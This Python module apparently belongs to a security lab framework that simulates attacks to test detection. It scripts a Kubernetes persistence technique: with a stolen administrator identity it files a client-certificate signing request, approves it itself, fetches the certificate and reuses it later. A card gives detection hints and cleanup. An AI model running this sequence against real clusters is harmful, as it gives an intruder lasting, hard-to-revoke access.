"""Attack: client certificate obtained for later.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, certificates, context, paths, session

COMMON_NAME = "cluster-monitoring"
"""User name that the certificate speaks for."""

POLLS = 20
"""How often the attacker looks whether the signer is done."""

CARD = base.Card(
    id="csr-persistence",
    title="Client certificate obtained for later",
    technique=base.Technique(id="T1649", name="Steal or Forge Authentication Certificates", tactic="Credential Access"),
    use_case=vocabulary.UseCase.PERSISTENCE,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "With a stolen administrator credential, files a certificate signing request for a privileged-looking "
        "user, approves it, fetches the certificate and comes back with it."
    ),
    seen_by=(
        "A client-authentication request created and approved by the same person, then a user name never seen before."
    ),
    cleans_up="The request object is deleted; the certificate itself cannot be revoked and holds no rights.",
    victim=base.Part.ADMIN,
    reach=base.Reach.CLUSTER,
    lasts_s=1800.0,
    catalogues=("stratus:k8s.persistence.create-client-certificate",),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.ADMIN)
    thief = ctx.act_as(victim, source_ip=ctx.stranger_ip())
    name = ctx.name("node-csr")
    request, key_file = certificates.request(COMMON_NAME)
    api = "certificates.k8s.io/v1"
    path = paths.group(api, "certificatesigningrequests", "", name)
    ctx.remove_later(path)
    body = {
        "apiVersion": api,
        "kind": "CertificateSigningRequest",
        "metadata": {"name": name},
        "spec": {"request": request, "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]},
    }
    yield thief.create(paths.group(api, "certificatesigningrequests"), body)
    condition = {"type": "Approved", "status": "True", "reason": "KubectlApprove", "message": "approved by kubectl"}
    approval = {"status": {"conditions": [condition]}}
    yield thief.patch(f"{path}/approval", approval, content_type=session.MERGE_PATCH)
    issued = ""
    for _ in range(POLLS):
        answer = yield thief.get(path, after_s=2.0)
        issued = answer.at("status", "certificate")
        if issued:
            break
    if issued:
        newcomer = certificates.identity(victim, COMMON_NAME, issued=issued, key_file=key_file)
        ghost = ctx.act_as(newcomer, source_ip=thief.manner.source_ip)
        yield ghost.get(paths.core("namespaces"), {"limit": 500}, after_s=900.0)
    certificates.forget(key_file)


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
